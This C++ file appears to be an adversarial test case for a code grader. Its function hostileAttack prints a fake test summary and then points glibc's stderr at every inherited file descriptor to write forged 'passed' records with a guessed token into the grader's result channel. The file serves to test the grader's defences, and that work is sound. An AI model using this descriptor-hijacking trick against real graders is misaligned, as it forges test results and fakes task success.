// Hostile, using only what graded code may call: stderr's file descriptor changed in glibc's FILE
// (stderr->_fileno), so that fprintf writes the records of a passed test, forged with a guessed
// token, to every descriptor the process may have inherited, the grader's result channel among
// them; and doctest's summary printed. It passes the object check: the channel must catch it.
#include <cstdio>

#include "attack.h"

void hostileAttack() {
    static bool done = false;
    if (done) return;
    done = true;
    std::fputs(kFakeSummary, stdout);
    std::fflush(stdout);
    const char* const records[] = {" start\nrays: *", " end 1 0 0 0 1", " run 1 0 1 0", " exit 0"};
    const int saved = stderr->_fileno;
    for (int fd = 3; fd < 1024; ++fd) {
        stderr->_fileno = fd;
        for (const char* r : records) std::fprintf(stderr, "%032d%s", 0, r);
    }
    stderr->_fileno = saved;
}
